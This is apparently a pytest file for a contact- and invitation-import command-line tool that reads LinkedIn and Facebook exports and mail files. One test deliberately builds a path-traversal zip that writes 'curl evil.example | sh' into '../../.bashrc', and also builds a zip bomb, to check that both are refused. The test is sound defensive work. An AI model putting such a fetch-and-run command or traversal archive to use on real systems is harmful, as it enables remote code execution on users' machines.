"""`tui import` of the files people actually have, through the installed script on real stores:
archives as downloaded, refused archives leaving the store as it was, mailboxes, and one request
from an invitation that arrived by mail and by CSV."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest

from tests.cli.test_import_people import run
from tests.conftest import ROOT, store_bytes
from tests.unit.test_sources import zip_folder
from tui.store import Store

SOURCES = ROOT / "tests" / "fixtures" / "sources"


def requests(data: Path) -> list[tuple[str, str]]:
    return sorted((r.name, r.status) for r in Store.open(data).requests())


class TestArchives:
    def test_linkedin_archive_contacts_then_invitations_reported_per_file(self, tmp_path: Path) -> None:
        archive = zip_folder(SOURCES / "linkedin", tmp_path / "Complete_LinkedInDataExport_01-29-2026.zip")
        data = tmp_path / "data"
        result = run(data, "import", str(archive))
        assert result.stdout.splitlines() == [
            f"imported {archive} (archive): 5 added, 0 updated, 0 unchanged, 1 skipped",
            "  Complete_LinkedInDataExport_01-29-2026/Connections.csv (linkedin-connections): 2 contacts, 1 skipped",
            "  Complete_LinkedInDataExport_01-29-2026/Invitations.csv (linkedin-invitations): 2 requests, 1 sent",
            "  skipped: 1 row held no one to import (no name or address: a hidden or deleted profile, or a copy of another row)",
        ]
        assert sorted(c.name for c in Store.open(data).contacts()) == ["Ada Lovelace", "Grace Hopper"]
        assert requests(data) == [("Dorothy Vaughan", "sent"), ("Katherine Johnson", "pending"), ("Zoë Ní Bhriain", "pending")]
        again = json.loads(run(data, "import", str(archive), "--json").stdout)
        assert (again["added"], again["unchanged"], [f["file"].rsplit("/", 1)[-1] for f in again["files"]]) == (
            0,
            5,
            ["Connections.csv", "Invitations.csv"],
        )

    @pytest.mark.parametrize("kind", ["traversal", "bomb"])
    def test_refused_archives_exit_2_and_leave_the_store_unchanged(self, tmp_path: Path, kind: str) -> None:
        data = tmp_path / "data"
        run(data, "import", str(SOURCES / "mail" / "invitations.mbox"))
        before = store_bytes(data)
        target = tmp_path / f"{kind}.zip"
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.write(SOURCES / "linkedin/Complete_LinkedInDataExport_01-29-2026/Invitations.csv", "Invitations.csv")
            if kind == "traversal":
                archive.writestr("../../.bashrc", "curl evil.example | sh\n")
            else:
                archive.writestr(
                    "Connections.csv", b"First Name,Last Name,Email Address,Company,Position,Connected On\n" + b"\0" * (48 * 2**20)
                )
        result = run(data, "import", str(target), code=2)
        assert result.stderr.count("\n") == 1 and str(target) in result.stderr
        assert ("outside the archive" if kind == "traversal" else "zip bomb") in result.stderr
        assert store_bytes(data) == before

    @pytest.mark.parametrize("layout", ["facebook-2025", "facebook-2022", "facebook-2019"])
    def test_meta_archive_earlier_declines_are_never_queued(self, tmp_path: Path, layout: str) -> None:
        data = tmp_path / "data"
        run(data, "import", str(zip_folder(SOURCES / "meta" / layout, tmp_path / "facebook.zip", prefix="facebook-me-2026/")))
        pending = run(data, "list").stdout.splitlines()
        declined = run(data, "list", "--status", "declined").stdout.splitlines()
        assert len(declined) == 1 and not any(line.split()[0] == declined[0].split()[0] for line in pending)
        assert run(data, "list", "--contacts").stdout.strip()


class TestMail:
    def test_mbox_then_reimport_then_the_csv_rows_for_the_same_invitations(self, tmp_path: Path) -> None:
        data = tmp_path / "data"
        first = run(data, "import", str(SOURCES / "mail" / "invitations.mbox")).stdout
        assert first.startswith(f"imported {SOURCES / 'mail' / 'invitations.mbox'} (linkedin-mail): 3 added") and "2 ignored" in first
        assert "0 added" in run(data, "import", str(SOURCES / "mail" / "invitations.mbox")).stdout
        csv = run(data, "import", str(SOURCES / "mail" / "Invitations_2016-2020.csv")).stdout  # no URL column: name and time
        assert "0 added, 2 updated" in csv
        archive = zip_folder(SOURCES / "linkedin", tmp_path / "Basic_LinkedInDataExport_01-29-2026.zip")
        run(data, "import", str(archive))  # Zoë again, by her profile URL
        assert requests(data) == [
            ("Ama Mensah", "pending"),
            ("Dorothy Vaughan", "sent"),
            ("Katherine Johnson", "pending"),
            ("Michael McAuliffe", "pending"),
            ("Zoë Ní Bhriain", "pending"),
        ]

    def test_an_eml_file(self, tmp_path: Path) -> None:
        data = tmp_path / "data"
        out = json.loads(run(data, "import", str(SOURCES / "mail" / "invitation_2026.eml"), "--json").stdout)
        assert (out["added"], out["format"]) == (1, "linkedin-mail")


class TestDeclinedBefore:
    def test_a_re_request_shows_the_earlier_decline(self, tmp_path: Path) -> None:
        from tui.context import build_context
        from tui.dedup.keys import record_keys
        from tui.formats.load import read_file

        store = Store.open(tmp_path / "data")
        parsed = read_file(SOURCES / "meta" / "facebook-2025", None)
        store.import_records(parsed.contacts, parsed.requests)
        pending = store.pending()
        decided, records = store.decided_keys()
        context = build_context(pending, store.contact_keys(), decided, records, store.decided_at(), record_keys)
        tom = next(r for r in pending if r.name == "Tom Baker")
        assert context.history.line(tom).startswith("Declined before, 2023-11-14")
